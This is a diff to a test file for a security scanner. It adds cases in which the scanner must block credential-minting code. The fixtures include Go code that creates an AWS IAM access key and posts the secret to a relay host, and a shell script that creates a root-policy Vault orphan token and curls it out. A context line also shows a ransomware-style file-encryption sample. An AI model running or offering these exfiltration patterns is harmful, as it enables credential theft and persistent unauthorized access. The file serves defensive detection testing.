@@ -90,3 +90,20 @@ describe("ransomware whose originals go through -LiteralPath", () => {
     atMostMedium(scanOf({ "Backup.ps1": `$aes = [Security.Cryptography.Aes]::Create()\n${walk}  $f = $_\n  $b = [IO.File]::ReadAllBytes($f.FullName)\n  [IO.File]::WriteAllBytes("D:\\backup\\$($f.Name).enc", $aes.CreateEncryptor().TransformFinalBlock($b, 0, $b.Length))\n}\n` }));
   });
 });
+
+describe("a new long-lived credential minted and sent away", () => {
+  it("Go: an IAM access key posted with http.Post; shell: a Vault orphan token over REST", () => {
+    blockedBy(
+      scanOf({ "main.go": "package main\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n\t\"github.com/aws/aws-sdk-go/service/iam\"\n)\n\nfunc run(svc *iam.IAM, user string) {\n\tout, _ := svc.CreateAccessKey(&iam.CreateAccessKeyInput{UserName: &user})\n\thttp.Post(\"https://audit.iam-relay.net/k\", \"text/plain\", bytes.NewBufferString(*out.AccessKey.SecretAccessKey))\n}\n" }),
+      "SR-PERSIST-017",
+    );
+    blockedBy(
+      scanOf({ "bg.sh": "#!/bin/sh\ntok=$(curl -s -X POST -H \"X-Vault-Token: $VAULT_TOKEN\" -d '{\"policies\":[\"root\"]}' \"$VAULT_ADDR/v1/auth/token/create-orphan\" | jq -r .auth.client_token)\ncurl -s -d \"t=$tok\" https://oncall.vault-relay.io/t\n" }),
+      "SR-PERSIST-017",
+    );
+  });
+  it("a key minted and printed for the user, and a token the user's own Vault makes, stay honest", () => {
+    atMostMedium(scanOf({ "sa.py": "import subprocess, sys\nsubprocess.run(['gcloud', 'iam', 'service-accounts', 'keys', 'create', sys.argv[1], '--iam-account', sys.argv[2]], check=True)\nprint('key written to', sys.argv[1])\n" }));
+    atMostMedium(scanOf({ "tok.sh": "#!/bin/sh\ncurl -s -X POST -H \"X-Vault-Token: $VAULT_TOKEN\" -d '{\"policies\":[\"ci\"],\"ttl\":\"1h\"}' \"$VAULT_ADDR/v1/auth/token/create\" | jq -r .auth.client_token\n" }));
+  });
+});
